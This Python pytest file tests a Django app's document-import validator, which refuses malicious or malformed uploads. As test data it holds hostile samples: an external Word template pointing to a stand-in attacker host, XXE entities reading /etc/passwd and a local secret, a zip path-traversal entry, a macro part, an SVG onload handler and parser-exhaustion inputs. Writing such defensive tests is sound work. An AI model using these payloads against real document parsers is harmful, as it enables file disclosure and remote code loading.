"""Documents that are made to do harm, or are none, are refused in words or survived."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from boardtrade.importing.asking import DocumentRefusedError, open_result, read_into
from boardtrade.importing.reading import pictures as reading_pictures
from boardtrade.importing.reading.document import read_document
from boardtrade.importing.staff.forms import check_source
from tests.factories import pdf_bytes, picture_file
from tests.importing.word_files import drawing, p, r, table, word_file


def read(content):
    return read_document(io.BytesIO(content), "docx", "accepted")[0]


TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" TargetMode="External" Target="https://evil.example/a.dotm" Type="http://'
    'schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)
ENTITY = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("a.docx", pdf_bytes(), "it is a PDF"),
        ("a.docx", b"\xd0\xcf\x11\xe0" + b"\0" * 600, "older format"),
        ("a.doc", b"\xd0\xcf\x11\xe0", ".docx"),
        ("a.docx", word_file(p("Text"))[:-400], "damaged"),
        ("a.docx", b"", "damaged"),
        ("a.pages", b"x", "not imported"),
        ("a.html", b"\x89PNG\r\n\x1a\n", "no text"),
        ("a.txt", b"a\0b", "no text"),
        ("a.docx", word_file(p("T"), extra={"word/vbaProject.bin": b"x"}), "macros"),
        ("a.docx", word_file(p("T"), extra={"../../evil.xml": b"<a/>"}), "damaged"),
        ("a.docx", word_file(p("T"), extra={"customXml/item1.xml": ENTITY}), "damaged"),
        (
            "a.docx",
            word_file(p("T"), extra={"word/_rels/settings.xml.rels": TEMPLATE.encode()}),
            "template from another computer",
        ),
    ],
)
def test_what_is_no_document_or_does_more_is_refused_in_words(name, content, words):
    with pytest.raises(ValidationError) as refused:
        check_source(SimpleUploadedFile(name, content))
    assert words in " ".join(refused.value.messages)


def nested_tables(depth):
    inside = p("deep")
    for _level in range(depth):
        inside = f"{table([[inside + p('')]])}"
    return word_file(inside)


@pytest.mark.parametrize(
    "content",
    [
        nested_tables(400),
        word_file("<w:p>" * 5000 + "</w:p>" * 5000),
        b"PK\x05\x06" + b"\0" * 18,
        word_file("").replace(b"word/document.xml", b"word/dokument.xml"),
    ],
)
def test_what_cannot_be_read_ends_in_the_child_process(content):
    with open_result() as result, pytest.raises(DocumentRefusedError) as refused:
        read_into(result, io.BytesIO(content), kind="docx", text="accepted")
    assert refused.value.messages


def test_an_answer_of_the_child_process_is_an_archive():
    with open_result() as result:
        read_into(result, io.BytesIO(word_file(p("Text."))), kind="docx", text="accepted")
        result.seek(0)
        assert zipfile.ZipFile(result).namelist() == ["document.json"]


def test_nothing_outside_of_the_file_is_read(tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("secret words")
    body = word_file(p("&x;"))
    archive = zipfile.ZipFile(io.BytesIO(body))
    changed = io.BytesIO()
    with zipfile.ZipFile(changed, "w") as copy:
        for name in archive.namelist():
            content = archive.read(name)
            if name == "word/document.xml":
                declared = f'<!DOCTYPE w [<!ENTITY x SYSTEM "file://{secret}">]>'.encode()
                content = content.replace(b"?>", b"?>" + declared, 1)
            copy.writestr(name, content)
    assert "secret words" not in str(read(changed.getvalue()))


def test_a_long_document_with_many_pictures_is_read(monkeypatch):
    monkeypatch.setattr(reading_pictures, "MAX_PICTURES", 3)
    contents = {
        f"rId{number}": picture_file(f"{number}.png", size=(20 + number, 20)).read()
        for number in range(5)
    }
    body = "".join(p(r("Words of a long text. " * 5)) for _line in range(2000))
    body += "".join(p(drawing(key, "A")) for key in contents)
    document = read(word_file(body, pictures=contents))
    assert len(document["pictures"]) == 3
    assert [each["code"] for each in document["findings"]] == ["picture_too_many"]
    assert document["pieces"][0]["html"].count("<p>") == 2000


def test_a_picture_that_is_none_and_one_that_is_missing_are_said():
    body = p(drawing("rIdOne", "A")) + p(drawing("rIdNowhere", "B"))
    document = read(word_file(body, pictures={"rIdOne": b"<svg onload='x'/>"}))
    assert [each["code"] for each in document["findings"]] == ["picture_linked", "picture_format"]
    assert document["pieces"] == []
